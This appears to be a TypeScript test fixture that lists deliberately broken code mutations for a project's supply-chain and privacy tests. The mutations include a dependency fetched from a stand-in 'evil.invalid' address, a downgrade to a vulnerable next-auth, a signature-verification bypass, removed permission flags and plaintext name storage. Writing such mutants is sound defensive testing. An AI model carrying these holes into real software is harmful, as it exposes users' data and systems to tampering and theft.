import type { BrokenVersion } from './broken-version.ts'

const supply = 'tests/house/supply-chain.test.ts'
const retention = 'tests/lib/server/privacy/retention.test.ts'
const erasure = 'tests/lib/server/privacy/erasure.test.ts'

/** N. Supply chain, and O. Privacy. */
export const supplyChainAndPrivacy: readonly BrokenVersion[] = [
  {
    property: 'S62',
    broken: 'one more package runs a script when it is installed',
    file: 'package.json',
    text: '"prisma": false',
    replacement: '"prisma": true',
    test: supply,
    title: 'runs a script of the one package that needs it, and each that has one is named',
  },
  {
    property: 'S62',
    broken: 'a package comes from an address',
    file: 'package-lock.json',
    text: '        "server-only": "^0.0.1",\n',
    replacement: '        "server-only": "https://evil.invalid/server-only.tgz",\n',
    test: supply,
    title: 'comes from a registry by its version, never from a repository, an address or a folder',
  },
  {
    property: 'S63',
    broken: 'a package is older than the version that closed its last known hole',
    file: 'package-lock.json',
    text: '"node_modules/next-auth": {\n      "version": "4.24.15"',
    replacement: '"node_modules/next-auth": {\n      "version": "4.24.14"',
    test: supply,
    title: 'next-auth',
  },
  {
    property: 'S63',
    broken: 'the web process works without the permission model',
    file: 'scripts/start/web-process.ts',
    text: "          '--permission',\n          ...mayRead([root, packages(), ...Object.values(places), ...certificates]),\n          `--allow-fs-write=${copiesFolder(places.DATA_DIR)}`,\n",
    replacement:
      '          ...mayRead([root, packages(), copiesFolder(places.DATA_DIR), ...certificates]).slice(0, 0),\n',
    test: 'tests/scripts/start.test.ts',
    title:
      'starts no process and no thread, loads no native code, writes nowhere but among the copies and sees no other file',
  },
  {
    property: 'S64',
    broken: 'a restore brings erased cases back, whatever the list says',
    file: 'lib/server/backup/load-backup.ts',
    text: 'await eraseAgain(client, source.erased)',
    replacement: 'await eraseAgain(client, [])',
    test: 'tests/lib/server/backup/erased-again.test.ts',
    title: 'does not come back with it: neither its rows nor its keys, and the tombstone stands',
  },
  {
    property: 'S64',
    broken: 'anybody may change the list of erased cases',
    file: 'lib/server/audit/signed-file.ts',
    text: '    parsed.success &&\n    verify(',
    replacement: "    parsed.success &&\n    (signature !== '' || verify(",
    also: [
      {
        file: 'lib/server/audit/signed-file.ts',
        text: "Buffer.from(signature, 'base64url'))\n  )",
        replacement: "Buffer.from(signature, 'base64url')))\n  )",
      },
    ],
    test: 'tests/lib/server/backup/erased-again.test.ts',
    title: 'is known on a list that only grows, that the installation signed, and that nobody else changes',
  },
  {
    property: 'S64',
    broken: 'a case is sealed under the key of its organisation, which stays',
    file: 'lib/server/keys/data-keys.ts',
    text: '  const key = newCellKey()\n  return { key, wrapped: sealKey(await organisationKey(tx, orgId), placeOfCaseKey',
    replacement:
      '  const key = await organisationKey(tx, orgId)\n  return { key, wrapped: sealKey(await organisationKey(tx, orgId), placeOfCaseKey',
    test: erasure,
    title: 'leaves no key: what was copied before opens with none that is left',
  },
  {
    property: 'S64',
    broken: 'what was written to ask for the erasure stays',
    file: 'lib/server/privacy/destroy-case.ts',
    text: "data: { reason: await sealReason(tx, { id, orgId }, '') }",
    replacement: 'data: {}',
    test: erasure,
    title: 'leaves a tombstone and its events, and no other row that belonged to it',
  },
  {
    property: 'S65',
    broken: 'a case whose time is over stays',
    file: 'lib/server/privacy/run-retention.ts',
    text: 'until < today()',
    replacement: "until < '1970-01-01'",
    test: retention,
    title: 'until the day somebody says, and then is erased by the operator’s run; one that is held is not',
  },
  {
    property: 'S65',
    broken: 'a case that is held is erased when its time is over',
    file: 'lib/server/privacy/run-retention.ts',
    text: 'if (retentionOf(still, today()).held) {',
    replacement: "if (retentionOf(still, today()).until === '') {",
    test: retention,
    title: 'until the day somebody says, and then is erased by the operator’s run; one that is held is not',
  },
  {
    property: 'S65',
    broken: 'nobody is warned before the end',
    file: 'lib/domain/retention.ts',
    text: "left <= warningDays ? 'ending'",
    replacement: "left + warningDays < 0 ? 'ending'",
    test: retention,
    title: 'for five years after its last change, and warns thirty days before, on every page and in the list',
  },
  {
    property: 'S66',
    broken: 'names are stored readable',
    file: 'lib/server/identity/account-cells.ts',
    text: "name: sealText(key, placeOf(of, 'name'), name)",
    replacement: 'name: new Uint8Array(Buffer.from(name))',
    also: [
      {
        file: 'lib/server/identity/account-cells.ts',
        text: "openText(key, placeOf(user, 'name'), user.name)",
        replacement: 'Buffer.from(key && user.name).toString()',
      },
    ],
    test: 'tests/lib/server/privacy/subpoena.test.ts',
    title: 'recovers opaque ids, sizes, times, roles and names of actions, and nothing else',
  },
  {
    property: 'S66',
    broken: 'a session has a column for the address of the browser',
    file: 'prisma/migrations/20261125190000_add_second_factors/migration.sql',
    text: 'ADD COLUMN     "mfa_at"',
    replacement: 'ADD COLUMN "user_agent" TEXT, ADD COLUMN     "mfa_at"',
    test: 'tests/lib/server/privacy/subpoena.test.ts',
    title: 'finds no address of a browser and nothing about what it is: no column is for either',
  },
]
